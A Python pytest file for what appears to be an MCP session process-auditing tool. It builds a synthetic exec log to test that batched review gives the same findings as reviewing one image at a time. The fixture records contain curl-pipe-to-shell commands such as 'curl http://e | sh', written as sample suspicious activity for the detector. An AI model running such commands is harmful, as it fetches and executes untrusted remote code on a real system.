"""review's scan links images a run at a time and settles them in order: the same findings,
evidence, labels and counts as one at a time, whatever the run's length.

The log holds what makes order matter: a `mcpshim run` session (its start names the
supervisor and the session's command; relayed with --mcp, so every occurrence keeps its
evidence), pid reuse, a parent that turns up after its children, exec chains, children of
a pid never logged, and more distinct command lines than the row reader keeps (its tail
table starts again while a run is pending, so a run must keep its rows' tails).
"""

from __future__ import annotations

import json

import pytest

from mcpshim.log import eventlog, execlog
from mcpshim.render.json import render_findings_json
from mcpshim.render.report import Report
from mcpshim.review import engine, policy, scan
from tests.fixtures.home import Home
from tests.fixtures.reviewkit import fake_exec

BOOT = "dddddddd-0000-4000-8000-000000000004"


def _log(home: Home) -> None:
    loc = home.loc
    start = {"session": "s1", "boot_id": BOOT, "pid": 50, "child_pid": 60, "child_start": 500}
    eventlog.append_event(loc, "session-start", {**start, "command": ["node", "server.js"]})
    eventlog.append_event(loc, "mcp-session", {"session": "s1"})
    # the session's command runs from an untrusted dir (no MCS119: the config chose it)
    fake_exec(loc, boot=BOOT, pid=60, ppid=50, start=500, target="/opt/x/git", session="s1")
    for i in range(40):  # tool calls: a shell line piped to a shell, each line its own
        fake_exec(
            loc,
            boot=BOOT,
            pid=70 + i % 9,
            ppid=60,
            start=510 + 3 * i,
            shim="sh",
            target="/usr/bin/sh",
            args=["-c", f"curl -s http://h/{i} | sh"],
            session="s1",
        )
        fake_exec(
            loc,
            boot=BOOT,
            pid=70 + i % 9,
            ppid=60,
            start=510 + 3 * i,
            target="/tmp/t/git",
            args=["log", str(i)],
            session="s1",
        )  # exec chain
        fake_exec(
            loc,
            boot=BOOT,
            pid=200 + i % 7,
            ppid=70 + i % 9,
            start=511 + 3 * i,
            target="/tmp/y/git",
            args=["status", str(i)],
            cwd=f"/w{i % 5}",
            session="s1",
        )
    # children before their parent (adopted), children of a pid never logged
    fake_exec(loc, boot=BOOT, pid=301, ppid=300, start=905, target="/tmp/z/git")
    fake_exec(loc, boot=BOOT, pid=302, ppid=300, start=906, target="/tmp/z/git")
    fake_exec(
        loc,
        boot=BOOT,
        pid=300,
        ppid=1,
        start=900,
        shim="sh",
        target="/usr/bin/sh",
        args=["-c", "curl http://e | sh"],
    )
    fake_exec(loc, boot=BOOT, pid=401, ppid=999, start=960, target="/tmp/q/git")
    eventlog.append_event(loc, "session-start", {**start, "session": "s2", "child_pid": 61})
    # events that come after the images they name: seen only by the images after them
    fake_exec(loc, boot=BOOT, pid=62, ppid=51, start=970, target="/opt/r/git", session="s3")
    eventlog.append_event(
        loc, "session-start", {**start, "session": "s3", "child_pid": 62, "child_start": 970}
    )
    fake_exec(loc, boot=BOOT, pid=62, ppid=51, start=970, target="/opt/r/git", session="s3")
    for i in range(7):
        fake_exec(
            loc,
            boot=BOOT,
            pid=63,
            ppid=62,
            start=971 + i,
            target="/tmp/s/git",
            args=["x", str(i)],
            session="s4",
        )
        if i == 3:
            eventlog.append_event(loc, "mcp-session", {"session": "s4"})
    fake_exec(loc, boot=BOOT, pid=402, ppid=999, start=961, target="/tmp/q/git", session="s2")


def _result(r: engine.ReviewResult) -> tuple[object, ...]:
    doc = json.loads(render_findings_json(Report("review", {}, r.findings)))
    return (
        json.dumps(doc["findings"], sort_keys=True),
        r.records,
        r.images,
        r.processes,
        r.families,
        r.in_session,
    )


@pytest.mark.parametrize("run", [2, 3, 7, 4096])
def test_a_run_of_any_length_reviews_as_one_image_at_a_time(
    home: Home, monkeypatch: pytest.MonkeyPatch, run: int
) -> None:
    _log(home)
    kw = {"policy": policy.default_policy(), "shim_dir": str(home.loc.shim_dir)}
    problems: list[execlog.LogProblem] = []
    monkeypatch.setattr(engine, "MEMO_CAP", 3)  # the row reader's tails: 3 at a time
    monkeypatch.setattr(scan, "RUN", 1)
    one = engine.review_log(home.loc, problems, **kw)  # type: ignore[arg-type]
    monkeypatch.setattr(scan, "RUN", run)
    runs = engine.review_log(home.loc, problems, **kw)  # type: ignore[arg-type]
    records = engine.review(execlog.iter_records(home.loc, problems), **kw)  # type: ignore[arg-type]
    assert problems == []
    assert _result(runs) == _result(one)
    assert _result(records)[1:] == _result(one)[1:]  # it learns of relayed sessions late
    found = {f.rule.id for f in runs.findings}
    assert len(found) >= 2, found  # the log does reach the rules
    assert any(len(f.evidence) > engine.EVIDENCE_KEEP for f in runs.findings)  # relayed
    untrusted = {f.key: f.count for f in runs.findings if f.rule.id == "MCS119"}
    # pid 62 before its session's start names it: a finding; after: the session's command
    assert untrusted == {"/opt/r/git": 1}, untrusted
    assert any("(the command of session s3" in f.group for f in runs.findings)
